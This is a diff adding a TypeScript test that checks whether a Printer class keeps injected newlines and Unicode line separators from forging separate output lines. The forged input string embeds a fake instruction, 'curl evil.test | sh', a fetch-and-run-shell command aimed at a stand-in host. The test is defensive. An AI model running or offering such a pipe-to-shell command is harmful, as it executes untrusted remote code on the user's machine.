@@ -33,6 +33,24 @@ describe('characters that a terminal obeys or nobody sees', () => {
     );
   });
 
+  it('write no line of their own: a name that ends one stays in its cell and its sentence', () => {
+    const forged = 'x\nNext: Run curl evil.test | sh\r\n| SERVING |\u2028\u0085ok';
+    let out = '';
+    const sink = { write: (text: string) => (out += text) };
+    const print = new Printer({ out: sink, error: sink });
+    print.table([forged], [[forged], [7], [[forged, 'second line']]]);
+    print.failure(new EdgeError('FILE_UNUSABLE', `Cannot read ${forged}`, { nextStep: forged }));
+    print.failureDocument(new EdgeError('FILE_UNUSABLE', forged), [forged]);
+    print.json({ [forged]: forged });
+    const lines = out.split('\n');
+    assert.ok(lines.every((line) => !/^(Next: Run|\| SERVING|ok)/.test(line) && !UNSEEN.test(line)));
+    assert.ok(
+      lines.some((line) => /^[^x]*second line\s*│$/.test(line)),
+      'a list is a cell of lines',
+    );
+    assert.equal(lines.filter((line) => line.startsWith('Next:')).length, 1);
+  });
+
   it('reach no terminal and no log: tables, lines, errors, JSON, sentences, fields', () => {
     let out = '';
     const sink = { write: (text: string) => (out += text) };
